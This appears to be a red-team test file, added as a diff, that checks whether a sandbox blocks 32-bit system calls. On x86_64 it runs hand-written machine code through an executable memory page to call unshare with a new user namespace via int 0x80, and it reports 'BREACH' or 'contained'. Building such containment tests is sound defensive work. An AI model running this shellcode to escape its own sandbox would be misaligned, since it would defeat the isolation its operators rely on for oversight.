@@ -1,0 +1,33 @@
+# /// redteam
+# category = "kernel"
+# allowed = ["passed", "security_violation", "runtime_error"]
+# limits = { wall_s = 4.0 }
+# ///
+"""Makes a system call through the 32-bit gate (int 0x80), where 310 means unshare."""
+
+import ctypes
+import platform
+
+libc = ctypes.CDLL(None, use_errno=True)
+MACHINE = platform.machine()
+
+
+def call(x86_64, aarch64, *arguments):
+    """Gives the result of a raw system call; -1 if it failed."""
+    number = {"x86_64": x86_64, "aarch64": aarch64}[MACHINE]
+    words = [a if not isinstance(a, int) else ctypes.c_long(a) for a in arguments]
+    return libc.syscall(ctypes.c_long(number), *words)
+
+
+import mmap
+
+if MACHINE != "x86_64":
+    print("contained")
+else:
+    # push rbx; mov eax, 310; mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
+    code = bytes.fromhex("53b836010000bb00000010cd805bc3")
+    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    area.write(code)
+    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
+    result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
+    print("BREACH unshare through the 32-bit gate" if result == 0 else "contained")
